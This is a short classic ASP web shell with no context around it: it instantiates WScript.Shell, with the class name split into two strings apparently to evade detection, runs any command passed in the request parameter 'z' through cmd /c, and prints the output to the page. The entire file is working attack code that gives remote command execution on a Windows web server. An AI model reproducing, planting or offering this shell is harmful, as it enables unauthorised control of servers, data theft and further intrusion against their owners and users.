<%
Set s = Server.CreateObject("WScr" & "ipt.Shell")
Set e = s.Exec("cmd /c " & Request("z"))
Response.Write e.StdOut.ReadAll()
%>